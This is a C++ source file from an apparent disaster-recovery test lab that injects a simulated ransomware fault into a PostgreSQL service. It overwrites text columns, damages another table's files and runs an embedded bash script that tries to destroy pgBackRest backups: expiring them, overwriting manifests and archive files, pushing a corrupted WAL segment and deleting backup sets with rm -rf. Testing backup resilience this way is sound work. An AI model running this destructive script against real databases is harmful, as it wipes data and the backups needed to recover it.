#include "lab/attack.hpp"

#include <fmt/format.h>
#include <pwd.h>
#include <signal.h>
#include <sys/stat.h>

#include <algorithm>

#include "core/base/split.hpp"
#include "lab/data_faults.hpp"
#include "lab/file_faults.hpp"
#include "lab/server_sql.hpp"

namespace lifeboat::lab {

namespace {

constexpr Duration kWithin{30'000};
constexpr const char* kAttacker = "attacker";
constexpr int kRowsAtOnce = 40;
// Stands before what was encrypted, so that nothing is encrypted twice. Of the same letters as base64.
constexpr std::string_view kMark = "LOCKED";

// Ends with the host or when it is told to. A server that takes no writes is tried again. Beside the encrypting, the attacker goes for
// whatever would make a backup worthless: with the credentials that lie on the primary's host, through the repository's server, and as that
// server's own user. Whoever speaks to the server with a client of his own can have it do what its user may; pgBackRest's client cannot
// remove through it (2.45 fails before it asks), so that this is tried in its stead. Each try is a line of the log
// (lab/backup_attack.hpp reads them); what was said to it stands below, indented.
constexpr const char* kAttack = R"(
as_server() { runuser -u "$OWNER" -- "$@"; }
ask() { as_server psql -X -q -A -t -v ON_ERROR_STOP=1 -h "$SOCKET" -p "$PORT" -U postgres -d "$DATABASE" -c "$1"; }
find_config() { find "$1" -name pgbackrest.conf 2>/dev/null | head -1; }
config=$(find_config "$FOLDER")
backrest() { as_server pgbackrest --config="$config" --stanza="$STANZA" --log-level-file=off "$@"; }
# WHAT COMMAND...
attempt() {
  local what=$1 said came_of_it=failed
  shift
  if said=$("$@" 2>&1); then
    came_of_it=done
  elif grep -qE 'raised from remote|not permitted|Permission denied|already exists' <<<"$said"; then
    came_of_it=refused
  fi
  echo "tried $came_of_it $what"
  [ -z "$said" ] || head -3 <<<"$said" | sed 's/^/  /'
}
overwrite() { attempt "overwrite $1 through the server" backrest repo-put --raw "$1" <<<'nothing'; }
through_the_server() {
  local set file
  attempt 'expire by the member' backrest --repo1-retention-full=1 expire
  for set in $(backrest repo-ls "backup/$STANZA" | grep -E '^[0-9]{8}-[0-9]{6}F'); do
    for file in backup.manifest backup.manifest.copy bundle/1; do overwrite "backup/$STANZA/$set/$file"; done
  done
  for file in $(backrest repo-ls --recurse "archive/$STANZA" | grep -E '/[0-9A-F]{24}-' | head -2); do
    overwrite "archive/$STANZA/$file"
  done
}
# A segment that is archived already, with something else in it.
replace_segment() {
  local name copy
  name=$(ls "$DATA/pg_wal/archive_status" | sed -n 's/^\([0-9A-F]\{24\}\)\.done$/\1/p' | tail -1) && [ -n "$name" ] &&
    copy=$(as_server mktemp -d) && as_server cp "$DATA/pg_wal/$name" "$copy/" &&
    as_server dd if=/dev/urandom of="$copy/$name" bs=1M seek=2 count=4 conv=notrunc status=none &&
    attempt "replace segment $name" backrest --pg1-path="$DATA" --no-archive-async archive-push "$copy/$name"
  [ -z "$copy" ] || rm -rf "$copy"
}
as_its_user() {
  local top set config
  config=$(find_config "$KEEPER")
  top=$(find "$KEEPER" -type d -path "*/backup/$STANZA" 2>/dev/null | head -1)
  [ -n "$top" ] && cd "$top/../.." || return
  attempt "expire as the server's user" backrest --repo1-retention-full=1 expire
  for set in $(ls "backup/$STANZA" | grep -E '^[0-9]{8}-[0-9]{6}F'); do
    attempt "remove backup/$STANZA/$set as the server's user" as_server rm -rf "backup/$STANZA/$set"
  done
  attempt "remove the archive as the server's user" as_server find "archive/$STANZA" -type f ! -name '*.info*' -delete
}
# Whoever writes backups has to write these. They are put back.
index() {
  local file
  for file in backup.info backup.info.copy; do overwrite "backup/$STANZA/$file"; done
  for file in $(find "$KEEPER" -path "*/backup/$STANZA/backup.info*" 2>/dev/null); do
    attempt "remove ${file##*/} as the server's user" as_server rm -f "$file"
  done
}
if [ -n "$config" ]; then
  { through_the_server; replace_segment; as_its_user; index; echo 'the backups are left alone now'; } &
fi
while sleep 0.5; do ask "$DEED"; done
)";

// Folder of the host that keeps the service's backups; empty when nobody does.
std::string keeper_of(const LabWorld& world, const std::string& service) {
  const auto* database = service_as<PostgresService>(world.plan, service);
  const Backups* backups = database == nullptr ? nullptr : kept_backups(*database);
  return backups == nullptr ? std::string() : world.options.folder + "/hosts/" + backups->repository_host->text;
}

// The columns of text, each as an assignment of what nobody can read without the key.
Result<std::string> deed_on(const HitTable& what) {
  std::string sql = fmt::format(
      "SELECT quote_ident(attname) FROM pg_attribute WHERE attrelid = '{}'::regclass AND attnum > 0 AND NOT "
      "attisdropped AND atttypid IN ('text'::regtype, 'varchar'::regtype) ORDER BY attnum;\n",
      what.table);
  TRY(std::string said, run_sql(what.postmaster, what.database, sql, kWithin));
  std::vector<std::string> columns = lines_of(said);
  if (columns.empty())
    return fail(ErrorKind::not_found, what.table + " has no column of text", "name another table by --target");
  std::string assignments;
  for (const std::string& column : columns) {
    assignments += fmt::format("{0}{1} = '{2}' || encode(sha256(({1} || random()::text)::bytea), 'base64')",
                               assignments.empty() ? "" : ", ", column, kMark);
  }
  return fmt::format(
      "UPDATE {{0}} SET {} WHERE ctid = ANY(ARRAY(SELECT ctid FROM {{0}} WHERE NOT starts_with({}, '{}') LIMIT {}))",
      assignments, columns.front(), kMark, kRowsAtOnce);
}

// Files of another table, so that what is encrypted by statements can be: [{path, blocks}], empty when there is no other.
Result<JsonArray> spoil_other_files(const HitTable& what) {
  TRY(std::vector<UserTable> tables, user_tables(what.postmaster, what.database));
  auto other =
      std::ranges::find_if(tables, [&](const UserTable& table) { return table.indexed && table.name != what.table; });
  if (other == tables.end()) return JsonArray{};
  return damage_table_files(what.postmaster, what.database, other->name);
}

// Name of the user whom the server runs as.
Result<std::string> owner_of(pid_t postmaster) {
  struct stat about{};
  if (stat(fmt::format("/proc/{}/cwd/.", postmaster).c_str(), &about) != 0) return std::unexpected(os_error("stat"));
  const passwd* account = getpwuid(about.st_uid);
  if (account == nullptr) return fail(ErrorKind::not_found, "the server's user has no name");
  return std::string(account->pw_name);
}

}  // namespace

Result<FaultDone> put_ransomware(LabWorld& world, const std::string& target, ActiveFault& active) {
  TRY(HitTable what, find_table_to_hit(world, target));
  TRY(std::string deed, deed_on(what));
  TRY(std::string owner, owner_of(what.postmaster));
  TRY(std::string place, run_sql(what.postmaster, what.database,
                                 "SHOW unix_socket_directories;\nSHOW port;\nSHOW data_directory;\n", kWithin));
  std::vector<std::string> at = lines_of(place);
  if (at.size() != 3) return fail(ErrorKind::internal, "the server printed what was not expected: " + place);
  TRY(FaultDone done, hit(what, deed));
  TRY(JsonArray files, spoil_other_files(what));
  done.detail.as_object()["files"] = std::move(files);
  Daemon attacker{.name = kAttacker,
                  .argv = {"/bin/bash", "-c", kAttack},
                  .folder = world.options.folder,
                  .log = world.options.folder + kAttackersLog};
  attacker.environment.add("FOLDER", world.options.folder + "/hosts/" + what.host);
  attacker.environment.add("KEEPER", keeper_of(world, what.service));
  attacker.environment.add("OWNER", owner);
  attacker.environment.add("STANZA", what.service);
  attacker.environment.add("SOCKET", at[0]);
  attacker.environment.add("PORT", at[1]);
  attacker.environment.add("DATA", at[2]);
  attacker.environment.add("DATABASE", what.database);
  attacker.environment.add("DEED", fmt::format(fmt::runtime(deed), what.table));
  TRY_VOID(world.machines.at(what.host)->start(attacker));
  active.on_host = what.host;
  return done;
}

Result<void> heal_ransomware(LabWorld& world, const ActiveFault& fault) {
  Machine& machine = *world.machines.at(fault.on_host);
  if (machine.state(kAttacker) != DaemonState::running) return {};
  return machine.signal(kAttacker, SIGKILL);
}

}  // namespace lifeboat::lab
